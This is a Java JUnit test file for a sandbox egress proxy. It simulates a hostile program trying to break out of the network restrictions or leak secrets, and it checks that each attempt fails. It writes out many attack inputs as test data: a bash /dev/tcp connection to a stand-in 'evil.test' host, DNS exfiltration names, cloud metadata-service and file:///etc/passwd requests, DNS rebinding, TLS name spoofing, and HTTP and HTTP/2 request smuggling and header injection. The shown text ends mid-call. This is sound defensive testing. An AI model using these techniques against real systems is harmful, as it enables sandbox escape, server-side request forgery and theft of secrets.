package dev.berth.gateway.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.berth.egress.internet.Internet;
import dev.berth.egress.internet.NameServer;
import dev.berth.egress.internet.Site;
import dev.berth.session.LoggedEvent;
import dev.berth.session.SessionKey;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.DatagramSocket;
import java.net.Inet6Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.slf4j.LoggerFactory;

/**
 * What a hostile program in a sandbox tries in order to reach what it may not, or to learn a secret. Everything runs in a
 * real sandbox of a whole server; where nothing may arrive, something listens. Needs root, crun and iproute2.
 */
@Timeout(300)
class EgressAttackTest {
    private static final String SESSION = "siege";
    /** Of this run alone, so that wherever one of them is found, it came from here. */
    private static final String VALUE =
            "sk-live-" + UUID.randomUUID().toString().replace("-", "");

    private static final String PASSWORD =
            "pw/+ " + UUID.randomUUID().toString().replace("-", "");
    private static final String QUERY = "q+/=" + UUID.randomUUID().toString().replace("-", "");

    private static final String NETWORK = """
            {"mode": "restricted",
             "allow": [{"to": "allowed.test"}, {"to": "*.wild.test"}, {"to": "redirect.test"}, {"to": "rebind.test"},
                       {"to": "private.test"}, {"to": "metadata.test"}, {"to": "mapped.test"}, {"to": "translated.test"},
                       {"to": "loopback.test"}, {"to": "self.test", "ports": [80, 443, %d, %d]},
                       {"to": "rules.test", "methods": ["GET"], "paths": ["/public/*"]},
                       {"to": "odd.test", "ports": [9000]}],
             "secrets": ["MODEL_KEY", "BASIC_KEY", "QUERY_KEY", "EXPIRED_KEY"]}""";

    private static OnlineBerth online;
    private static Internet internet;
    private static final Canary canary = new Canary();
    private static final ListAppender<ILoggingEvent> log = new ListAppender<>();
    private static DatagramSocket packets;
    private static ServerSocket machineDoor;
    private static int api;
    private static List<Site> sites;
    private static Site bound;
    private static String placeholder;

    @BeforeAll
    static void start() throws IOException, InterruptedException {
        listenToLog();
        online = new OnlineBerth();
        internet = online.internet();
        api = URI.create(online.berth().url()).getPort();
        machineDoor = new ServerSocket(0);
        sites = populate();
        bound = sites.getFirst();
        packets = plantCanaries();
        online.secret("MODEL_KEY", VALUE, "{\"hosts\": [\"bound.test\"]}");
        online.secret("BASIC_KEY", PASSWORD, "{\"hosts\": [\"basic.test\"], \"basic\": {\"user\": \"me\"}}");
        online.secret("QUERY_KEY", QUERY, "{\"hosts\": [\"query.test\"], \"query\": {\"name\": \"key\"}}");
        online.secret("EXPIRED_KEY", VALUE, "{\"hosts\": [\"expired.test\"]}");
        online.session(SESSION, "host", NETWORK.formatted(api, machineDoor.getLocalPort()));
        online.session("neighbour", "host", NETWORK.formatted(api, machineDoor.getLocalPort()));
        for (String session : List.of(SESSION, "neighbour")) {
            online.write(session, "attack.py", attacks());
        }
        placeholder = online.run(SESSION, "printenv MODEL_KEY").strip();
        assertThat(placeholder).contains("berth-MODEL_KEY-");
        online.run("neighbour", "setsid python3 -m http.server 9999 --bind 0.0.0.0 >/dev/null 2>&1 < /dev/null &");
    }

    private static void listenToLog() {
        Logger own = (Logger) LoggerFactory.getLogger("dev.berth");
        own.setLevel(Level.DEBUG);
        own.setAdditive(false);
        log.start();
        own.addAppender(log);
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(log);
    }

    /** The first is the one that secrets are bound to. */
    private static List<Site> populate() {
        NameServer names = internet.names();
        var authority = internet.authority();
        InetAddress allowed = internet.address(10);
        InetAddress secret = internet.address(11);
        InetAddress rules = internet.address(12);
        Site first = internet.https(secret, 443, "bound", authority.server("bound.test", "basic.test", "query.test"));
        List<Site> all = List.of(
                first,
                internet.http(secret, 80, "bound, in the clear"),
                internet.http(allowed, 80, "allowed"),
                internet.https(allowed, 443, "allowed", authority.server("allowed.test", "evil.test")),
                internet.http(rules, 80, "rules"),
                internet.https(rules, 443, "rules", authority.server("rules.test")),
                internet.https(internet.address(14), 443, "expired", authority.expired("expired.test")));
        names.name("allowed.test", allowed);
        names.name("rules.test", rules);
        List.of("bound.test", "basic.test", "query.test").forEach(name -> names.name(name, secret));
        names.name("expired.test", internet.address(14));
        names.name("redirect.test", internet.address(13));
        redirecting(internet.listen(internet.address(13), 80));
        names.name("evil.test", internet.address(66), internet.address6(66));
        names.name("odd.test", internet.address(66));
        names.name("private.test", internet.closedAddress(1));
        names.name("metadata.test", Internet.METADATA);
        names.name("mapped.test", mapped(Internet.METADATA));
        names.name("translated.test", InetAddress.ofLiteral("64:ff9b::a9fe:a9fe"));
        names.name("loopback.test", InetAddress.ofLiteral("127.0.0.1"), InetAddress.ofLiteral("::1"));
        names.name("self.test", internet.machine());
        names.rebind("rebind.test", allowed, internet.closedAddress(1));
        return all;
    }

    /** As it stands in an answer of DNS; Java makes one of IPv4 of it otherwise. */
    private static InetAddress mapped(InetAddress four) {
        byte[] bytes = new byte[16];
        bytes[10] = (byte) 0xff;
        bytes[11] = (byte) 0xff;
        System.arraycopy(four.getAddress(), 0, bytes, 12, 4);
        try {
            return Inet6Address.getByAddress("mapped.test", bytes, -1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void redirecting(ServerSocket door) {
        Thread.ofVirtual().name("redirecting").start(() -> {
            while (!door.isClosed()) {
                try (Socket visitor = door.accept()) {
                    InputStream in = visitor.getInputStream();
                    byte[] head = new byte[8192];
                    if (in.read(head) > 0) {
                        visitor.getOutputStream().write("""
                                HTTP/1.1 302 Found\r
                                Location: http://evil.test/redirected\r
                                Content-Length: 0\r
                                Connection: close\r
                                \r
                                """.getBytes(StandardCharsets.US_ASCII));
                    }
                } catch (IOException e) {
                    if (!door.isClosed()) {
                        throw new UncheckedIOException(e);
                    }
                }
            }
        });
    }

    /** And sees to it that they can be heard: one that is dumb would prove nothing. */
    private static DatagramSocket plantCanaries() throws IOException, InterruptedException {
        for (int port : List.of(22, 53, 80, 443, 3128, 8080)) {
            canary.tcp(internet, internet.address(66), port);
        }
        canary.tcp(internet, internet.address6(66), 443);
        canary.tcp(internet, internet.closedAddress(1), 80);
        canary.tcp(internet, internet.closedAddress(1), 443);
        canary.tcp(internet, Internet.METADATA, 80);
        DatagramSocket socket = canary.udp(internet, internet.address(66), 53);
        canary.watch(machineDoor);
        new Socket(internet.address(66), 443).close();
        new Socket(internet.machine(), machineDoor.getLocalPort()).close();
        long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
        while (canary.sung().size() < 2 && System.nanoTime() < deadline) {
            Thread.sleep(10);
        }
        assertThat(canary.sung()).hasSize(2);
        canary.forget();
        return socket;
    }

    private static String attacks() throws IOException {
        try (InputStream in = EgressAttackTest.class.getResourceAsStream("attack.py")) {
            return new String(java.util.Objects.requireNonNull(in).readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @AfterAll
    static void stop() throws IOException {
        Logger own = (Logger) LoggerFactory.getLogger("dev.berth");
        own.detachAppender(log);
        own.setLevel(null);
        own.setAdditive(true);
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).detachAppender(log);
        packets.close();
        machineDoor.close();
        online.close();
    }

    // ---- attempts ------------------------------------------------------------------------------------------------

    private static String python(String session, String code) {
        return online.run(
                        session,
                        "PYTHONDONTWRITEBYTECODE=1 PYTHONPATH=. python3 - <<'END_OF_ATTACK'\nfrom attack import *\n"
                                + code + "\nEND_OF_ATTACK")
                .strip();
    }

    /** An attempt whose output has to be this, as a pattern, and after which nothing may have arrived anywhere. */
    private static DynamicTest attack(String name, String code, String outcome) {
        return dynamicTest(name, () -> {
            String output = python(SESSION, code);
            assertThat(output).matches("(?s)" + outcome);
            nothingArrived();
        });
    }

    private static void nothingArrived() {
        assertThat(canary.sung()).as("what reached a place where nothing may").isEmpty();
        for (Site site : sites) {
            assertThat(site.seen()).allSatisfy(request -> {
                assertThat(request.uri()).doesNotContain("forbidden");
                assertThat(request.toString()).doesNotContain(placeholder);
                assertThat(request.headers()).doesNotContainKey("x-injected");
                assertThat(request.headers().getOrDefault("host", "")).doesNotContain("evil");
            });
        }
        assertThat(internet.names().asked()).noneMatch(name -> name.contains("stolen"));
    }

    private static String text(InetAddress address) {
        return address.getHostAddress();
    }

    private static String evil() {
        return text(internet.address(66));
    }

    /** All addresses by which this machine can be called. */
    private static List<String> machine() throws SocketException {
        return NetworkInterface.networkInterfaces()
                .flatMap(NetworkInterface::inetAddresses)
                .map(EgressAttackTest::text)
                .map(address -> address.replaceFirst("%.*", ""))
                .distinct()
                .toList();
    }

    private static String literals(List<String> texts) {
        return texts.stream().map(text -> "'" + text + "'").collect(Collectors.joining(", ", "[", "]"));
    }

    private static final String NO_WAY = "ENETUNREACH|EADDRNOTAVAIL|EHOSTUNREACH|EPERM|EACCES";

    @TestFactory
    Stream<DynamicTest> withoutTheProxyThereIsNoWay() throws SocketException {
        String everywhere = literals(machine());
        return Stream.of(
                attack("a public address is out of reach", "tcp('" + evil() + "', 443)", NO_WAY),
                attack(
                        "a private address is out of reach",
                        "tcp('" + text(internet.closedAddress(1)) + "', 80)",
                        NO_WAY),
                attack("the metadata service is out of reach", "tcp('169.254.169.254', 80)", NO_WAY),
                attack("IPv6 is out of reach", "tcp('" + text(internet.address6(66)) + "', 443)", NO_WAY),
                attack("an address of IPv4 in IPv6 is out of reach", "tcp('::ffff:" + evil() + "', 443)", NO_WAY),
                attack(
                        "the machine's own doors are closed at each of its addresses",
                        "for a in " + everywhere + ":\n  for p in (" + api + ", " + machineDoor.getLocalPort()
                                + "): tcp(a, p)",
                        "((" + NO_WAY + "|EINVAL|ECONNREFUSED)\n?)+"),
                attack("a packet of UDP goes nowhere", "udp('" + evil() + "', 53)", NO_WAY),
                attack(
                        "a question to the real name server goes nowhere",
                        "udp('" + text(internet.address(53)) + "', 53, question('stolen.evil.test'))",
                        NO_WAY),
                attack(
                        "another name server in resolv.conf is of no use",
                        """
                        try:
                            os.unlink('/etc/resolv.conf')
                            open('/etc/resolv.conf', 'w').write('nameserver %s\\n')
                        except OSError as e:
                            pass
                        os.environ['RES_OPTIONS'] = 'timeout:1 attempts:1'
                        try:
                            print(socket.getaddrinfo('stolen.evil.test', 443))
                        except OSError as e:
                            print(type(e).__name__)""".formatted(text(internet.address(53))),
                        "gaierror"),
                attack("no ping goes out", """
                        def ping(kind):
                            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
                                s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('%s', 0))
                        attempt(lambda: ping(socket.SOCK_RAW))
                        attempt(lambda: ping(socket.SOCK_DGRAM))""".formatted(evil()), "((" + NO_WAY + ")\n?){2}"),
                attack("a frame of its own making has no wire to go to", """
                        def send():
                            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
                                s.bind(('eth0', 0))
                                s.send(b'x' * 60)
                        attempt(send)""", "EPERM|ENODEV|EACCES|EAFNOSUPPORT"),
                attack("no socket leads to the hypervisor", """
                        def call():
                            with socket.socket(40, socket.SOCK_STREAM) as s:
                                s.settimeout(3)
                                s.connect((2, 1024))
                        try:
                            call(); print('REACHED')
                        except Exception as e:
                            print('no: ' + type(e).__name__)""", "no: .*"),
                attack("a route cannot be added", """
                        import fcntl
                        def add():
                            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                                fcntl.ioctl(s, 0x890b, b'\\0' * 120)
                        attempt(add)""", "EPERM|EINVAL|EACCES|EAFNOSUPPORT|ENODEV"),
                attack(
                        "bash finds no way either",
                        "os.system(\"bash -c 'exec 3<>/dev/tcp/" + evil() + "/443 && echo REACHED' 2>&1\")",
                        ".*unreachable.*"),
                attack(
                        "who ignores the variables reaches nothing",
                        "os.system(\"curl -sS -m 5 --noproxy '*' http://allowed.test/ 2>&1; curl -sS -m 5 --noproxy '*' http://"
                                + evil() + "/ 2>&1\")",
                        ".*Could not resolve host.*(Failed to connect|Couldn't connect|unreachable).*"),
                attack(
                        "a neighbour's port is not on this loopback",
                        "tcp('127.0.0.1', 9999); tcp('::1', 9999)",
                        "ECONNREFUSED\nECONNREFUSED"),
                attack(
                        "the guest's socket does not listen to whoever has no token",
                        """
                        def speak():
                            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                                s.settimeout(15)
                                s.connect('/.berth/link')
                                token = b'0' * 64
                                body = struct.pack('>H', 2) + struct.pack('>I', len(token)) + token
                                body += struct.pack('>I', 4) + b'boot' + struct.pack('>I', 1)
                                s.sendall(struct.pack('>IBI', len(body) + 5, 65, 0) + body)
                                answer = s.recv(100)
                                if answer: print('REACHED')
                                else: raise PermissionError(errno.EACCES, 'closed')
                        attempt(speak)""",
                        "EACCES|EPERM|ENOENT|ECONNRESET|ECONNREFUSED|EPIPE"));
    }

    @TestFactory
    Stream<DynamicTest> namesAndAddressesThatMeanSomethingElse() throws SocketException, IOException {
        byte[] four = internet.address(66).getAddress();
        long decimal = Integer.toUnsignedLong(java.nio.ByteBuffer.wrap(four).getInt());
        String hex = "0x" + HexFormat.of().formatHex(four);
        String octal = Stream.of(four[0], four[1], four[2], four[3])
                .map(b -> "0" + Integer.toOctalString(b & 0xff))
                .collect(Collectors.joining("."));
        String six = HexFormat.of().formatHex(four).replaceFirst("(....)(....)", "$1:$2");
        String everywhere = literals(machine());
        String no = "refused (not_allowed|bad_request)";
        return Stream.of(
                attack("a host that no rule names is refused", "connect('evil.test:443')", "refused not_allowed"),
                attack(
                        "a plain request to it is too",
                        "raw('GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
                        "refused not_allowed"),
                attack("names carry no data out", "connect('stolen-data.evil.test:443')", "refused not_allowed"),
                attack(
                        "names that look allowed carry none",
                        "connect('allowed.test.stolen.test:443')",
                        "refused not_allowed"),
                attack(
                        "a name that only ends alike is refused",
                        "connect('notallowed.test:443')",
                        "refused not_allowed"),
                attack("the domain itself is not below itself", "connect('wild.test:443')", "refused not_allowed"),
                attack("another port is refused", "connect('allowed.test:22')", "refused not_allowed"),
                attack("a port beyond the last one is refused", "connect('allowed.test:65979')", "refused bad_request"),
                attack("two ports are refused", "connect('allowed.test:443:80')", "refused bad_request"),
                attack("an address is not a name", "connect('" + evil() + ":443')", "refused not_allowed"),
                attack("nor is one in decimal", "connect('" + decimal + ":443')", no),
                attack("nor one in hexadecimal", "connect('" + hex + ":443')", no),
                attack("nor one in octal", "connect('" + octal + ":443')", no),
                attack("nor a short one", "connect('127.1:" + api + "')", no),
                attack("nor one of IPv4 in IPv6", "connect('[::ffff:" + evil() + "]:443')", no),
                attack("nor one that a NAT64 would translate", "connect('[64:ff9b::" + six + "]:443')", no),
                attack("nor one with a zone", "connect('[fe80::1%lo]:443')", no),
                attack(
                        "the metadata service is refused",
                        "connect('169.254.169.254:80'); raw('GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n')",
                        "refused not_allowed\nrefused not_allowed"),
                attack(
                        "localhost is not the server's",
                        "for n in ('localhost', 'localhost.', 'LOCALHOST', 'a.localhost', '0.0.0.0', '[::]', '127.0.0.1', '[::1]'): connect(n + ':"
                                + api + "')",
                        "(" + no + "\n?){8}"),
                attack(
                        "the server's own port is refused at each address of the machine",
                        "for a in " + everywhere + ":\n  connect(('[%s]:%d' if ':' in a else '%s:%d') % (a, " + api
                                + "))",
                        "(" + no + "\n?)+"),
                attack(
                        "and so are the machine's other doors",
                        "for a in " + everywhere + ":\n  connect(('[%s]:%d' if ':' in a else '%s:%d') % (a, "
                                + machineDoor.getLocalPort() + "))",
                        "(" + no + "\n?)+"),
                attack(
                        "a name of this machine is of no use",
                        "connect('self.test:" + api + "'); connect('self.test:" + machineDoor.getLocalPort() + "')",
                        "refused (private_address|loop)\nrefused (private_address|loop)"),
                attack(
                        "the proxy is not asked for itself",
                        "connect('127.0.0.1:3128'); connect('localhost:3128'); raw('GET http://127.0.0.1:3128/ HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n\\r\\n')",
                        "(" + no + "\n?){3}"),
                attack(
                        "a dot at the end opens nothing",
                        "connect('evil.test.:443'); connect('evil.test..:443'); connect('allowed.test..:443')",
                        "refused not_allowed\nrefused bad_request\nrefused bad_request"),
                attack(
                        "letters that look alike are others",
                        "connect('\\u0430llowed.test:443'.encode()); connect('xn--llowed-8fg.test:443')",
                        "(" + no + "\n?){2}"),
                attack("dots that look alike open nothing", "connect('evil\\u3002test:443'.encode())", no),
                attack(
                        "a user in front of the host is no host",
                        "connect('allowed.test@evil.test:443'); raw('GET http://allowed.test@evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); raw('GET http://allowed.test:80@evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        "(refused [a-z_]+\n?){3}"),
                attack(
                        "a fragment hides no host",
                        "raw('GET http://evil.test#allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); connect('evil.test#allowed.test:443')",
                        "(refused [a-z_]+\n?){2}"),
                attack(
                        "a NUL ends no name",
                        "raw('GET http://allowed.test%00.evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); connect(b'allowed.test\\0.evil.test:443')",
                        "((refused [a-z_]+|400)\n?){2}"),
                attack(
                        "a backslash is no slash",
                        "raw(r'GET http://evil.test\\@allowed.test/ HTTP/1.1'.encode() + b'\\r\\nHost: allowed.test\\r\\n\\r\\n')",
                        "refused [a-z_]+|400"),
                attack(
                        "other schemes are not spoken",
                        "for u in ('ftp://allowed.test/', 'file:///etc/passwd', 'gopher://allowed.test/', 'https://allowed.test/'): raw('GET %s HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' % u)",
                        "((refused [a-z_]+|400)\n?){4}"),
                attack(
                        "a name that leads to a private address is refused",
                        "connect('private.test:443'); raw('GET http://private.test/ HTTP/1.1\\r\\nHost: private.test\\r\\n\\r\\n')",
                        "(refused private_address\n?){2}"),
                attack(
                        "a name that leads to the metadata service is refused",
                        "connect('metadata.test:80'); connect('mapped.test:80'); connect('translated.test:80')",
                        "(refused (private_address|unknown_host)\n?){3}"),
                attack(
                        "a name that leads to the server's loopback is refused",
                        "connect('loopback.test:443')",
                        "refused private_address"),
                attack(
                        "a name that is bound anew leads nowhere new",
                        "connect('rebind.test:443'); connect('rebind.test:443'); raw('GET http://rebind.test/ HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n')",
                        "200\nrefused private_address\nrefused private_address"));
    }

    @TestFactory
    Stream<DynamicTest> whatIsSaidHasToBeForWhoWasAskedFor() {
        return Stream.of(
                attack("TLS for another server is cut", "secured('allowed.test', 'evil.test')", "no tls: .*"),
                attack("TLS for no server in particular is cut", "secured('allowed.test', None)", "no tls: .*"),
                attack(
                        "an allowed name in TLS opens no other host",
                        "secured('evil.test', 'allowed.test')",
                        "refused not_allowed"),
                attack(
                        "TLS for another server on a host that is opened is cut",
                        "secured('bound.test', 'evil.test')",
                        "no tls: .*"),
                attack(
                        "a name with a NUL in TLS is cut",
                        "through('allowed.test:443', hello([b'allowed.test\\0.evil.test']))",
                        "alert|cut"),
                attack(
                        "two names in TLS are cut",
                        "through('allowed.test:443', hello([b'allowed.test', b'evil.test']))",
                        "alert|cut"),
                attack(
                        "a name that is there twice is cut",
                        "through('allowed.test:443', hello([b'allowed.test'], duplicate=True))",
                        "alert|cut"),
                attack(
                        "a name that is hidden in another extension does not count",
                        "through('allowed.test:443', hello([], extra=struct.pack('>HH', 0xfe0d, 32) + os.urandom(32)))",
                        "alert|cut"),
                attack("a hello in crumbs is put together before it is believed", """
                        whole = hello([b'evil.test'])
                        message = whole[5:]
                        crumbs = b''.join(b'\\x16\\x03\\x01' + struct.pack('>H', len(message[i:i + 40])) + message[i:i + 40] for i in range(0, len(message), 40))
                        through('allowed.test:443', crumbs)""", "alert|cut"),
                attack(
                        "what is not TLS does not pass on its port",
                        "through('allowed.test:443', b'SSH-2.0-x\\r\\n'); through('allowed.test:443', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
                        "refused not_tls\nrefused not_tls"),
                attack(
                        "garbage that begins like TLS does not pass",
                        "through('allowed.test:443', b'\\x16\\x03\\x01\\x00\\x10' + b'\\xff' * 16)",
                        "alert|cut"),
                attack(
                        "another host in a plain request is refused",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
                        "refused (host_mismatch|bad_request)"),
                attack(
                        "another host in an opened request is refused",
                        "opened('bound.test', 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused host_mismatch"),
                attack(
                        "another host within a plain tunnel is refused",
                        "through('allowed.test:80', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused host_mismatch"),
                attack(
                        "two hosts are refused",
                        "raw('GET http://allowed.test/forbidden HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n'); opened('bound.test', 'GET /forbidden HTTP/1.1\\r\\nHost: bound.test\\r\\nHost: evil.test\\r\\n\\r\\n')",
                        "((refused [a-z_]+|400)\n?){2}"),
                attack(
                        "an address within opened TLS has to be of that host",
                        "opened('bound.test', 'GET https://evil.test/forbidden HTTP/1.1\\r\\nHost: bound.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused (host_mismatch|bad_request)"),
                attack(
                        "and within a tunnel to one host no other can be asked for",
                        "through('allowed.test:80', b'GET http://evil.test/forbidden HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "refused host_mismatch"),
                attack(
                        "a redirect is followed to a refusal",
                        "os.system('curl -sSL http://redirect.test/')",
                        "berth: evil.test:80 is not among what this sandbox may reach"),
                attack(
                        "a second request is looked at like the first",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "200, refused not_allowed"),
                attack(
                        "a second request in opened TLS is too",
                        "opened('bound.test', 'GET /one HTTP/1.1\\r\\nHost: bound.test\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "200, refused host_mismatch"),
                attack(
                        "a connection cannot be asked for later on",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n')",
                        "200, (refused [a-z_]+|400)"),
                attack(
                        "a WebSocket to a forbidden host is refused",
                        "raw('GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n')",
                        "refused not_allowed"),
                attack(
                        "an upgrade that the server did not want hides no request",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "200, refused not_allowed"),
                attack(
                        "an upgrade to HTTP/2 hides no request",
                        "raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')",
                        "200, refused not_allowed"),
                attack(
                        "HTTP/2 without being asked hides no request",
                        "raw(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, 0) + frame(1, 5, 1, fields([(':method', 'GET'), (':scheme', 'http'), (':authority', 'evil.test'), (':path', '/')])), 5)",
                        "refused [a-z_]+|400|cut|garbage"),
                attack(
                        "within TLS nobody asks for going on without it",
                        "opened('rules.test', 'GET http://rules.test:443/public/forbidden HTTP/1.1\\r\\nHost: rules.test:443\\r\\nConnection: close\\r\\n\\r\\n'); h2('rules.test', [(':method', 'GET'), (':scheme', 'http'), (':authority', 'rules.test:443'), (':path', '/public/forbidden')])",
                        "refused bad_request\n(refused berth: .*|reset|goaway|answered 8c)"),
                attack(
                        "HTTP/2 for another host is refused",
                        "h2('bound.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'evil.test'), (':path', '/forbidden')])",
                        "refused berth: this request is for evil.test:443.*"),
                attack(
                        "HTTP/2 with a second host is refused",
                        "h2('bound.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'bound.test'), (':path', '/forbidden'), ('host', 'evil.test')])",
                        "refused berth: .*|reset|goaway|answered 8c"),
                attack(
                        "HTTP/2 with a line end in a header is refused",
                        "h2('bound.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'bound.test'), (':path', '/forbidden'), ('x-a', 'b\\r\\nX-Injected: 1')])",
                        "refused berth: .*|reset|goaway|answered 8c"),
                attack(
                        "HTTP/2 with a line end in its path is refused",
                        "h2('bound.test', [(':method', 'GET'), (':scheme', 'https'), (':authority', 'bound.test'), (':path', '/forbidden HTTP/1.1\\r\\nX-Injected: 1\\r\\n\\r\\n')])",
                        "refused berth: .*|reset|goaway|answered 8c"),
                attack(
                        "HTTP/2 with a body of two lengths is refused",
                        "h2('bound.test', [(':method', 'POST'), (':scheme', 'https'), (':authority', 'bound.test'), (':path', '/forbidden'), ('content-length', '3')], b'0\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\n\\r\\n')",
                        "refused berth: .*|reset|goaway|answered 8c|cut"),
                attack(
                        "HTTP/2 with chunks is refused, or they are no chunks",
                        "h2('bound.test', [(':method', 'POST'), (':scheme', 'https'), (':authority', 'bound.test'), (':path', '/x'), ('transfer-encoding', 'chunked')], b'0\\r\\n\\r\\nGET /forbidden HTTP/1.1\\r\\nHost: bound.test\\r\\n\\r\\n')",
                        "refused berth: .*|reset|goaway|answered 8c|answered bound\nPOST /x\n.*GET /forbidden.*"),
                attack(
                        "HTTP/2 opens no tunnel",
                        "h2('bound.test', [(':method', 'CONNECT'), (':authority', 'evil.test:443')])",
                        "refused berth: .*|reset|goaway|answered 8c"));
    }

    private static String smuggle(String head, String body) {
        return "raw('POST http://allowed.test/a HTTP/1.1\\r\\nHost: allowed.test\\r\\n" + head + "\\r\\n\\r\\n" + body
                + "', 5); opened('bound.test', 'POST /a HTTP/1.1\\r\\nHost: bound.test\\r\\n" + head + "\\r\\n\\r\\n"
                + body + "', 5)";
    }

    @TestFactory
    Stream<DynamicTest> oneRequestIsOneRequest() {
        String hidden = "GET /forbidden HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
        // What comes after the first answer is a request to evil.test for the proxy too, and refused as such.
        String refused = "((200, )?(refused [a-z_]+|400|411|501)(, refused [a-z_]+|, 400)*\n?){2}";
        return Stream.of(
                attack(
                        "with both a length and chunks it is refused",
                        smuggle("Content-Length: 6\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n" + hidden),
                        refused),
                attack(
                        "with chunks and then a length too",
                        smuggle(
                                "Transfer-Encoding: chunked\\r\\nContent-Length: 4",
                                "5c\\r\\n" + hidden + "\\r\\n0\\r\\n\\r\\n"),
                        refused),
                attack("with two lengths", smuggle("Content-Length: 0\\r\\nContent-Length: 60", hidden), refused),
                attack("with two lengths in one", smuggle("Content-Length: 0, 60", hidden), refused),
                attack("with a length that is no number", smuggle("Content-Length: +0", hidden), refused),
                attack(
                        "with a folded header",
                        smuggle("X-A: b\\r\\n Transfer-Encoding: chunked\\r\\nContent-Length: 0", hidden),
                        refused),
                attack(
                        "with a blank before the colon",
                        smuggle("Transfer-Encoding : chunked\\r\\nContent-Length: 0", hidden),
                        refused),
                attack(
                        "with chunks by another name",
                        smuggle("Transfer-Encoding: xchunked", "0\\r\\n\\r\\n" + hidden),
                        refused),
                attack(
                        "with chunks twice",
                        smuggle(
                                "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
                                "0\\r\\n\\r\\n" + hidden),
                        refused),
                attack(
                        "with lines that end in a line feed alone",
                        "raw('POST http://allowed.test/a HTTP/1.1\\nHost: allowed.test\\nContent-Length: 0\\n\\n"
                                + hidden
                                + "', 5); opened('bound.test', 'POST /a HTTP/1.1\\nHost: bound.test\\nContent-Length: 0\\n\\n"
                                + hidden + "', 5)",
                        refused),
                attack(
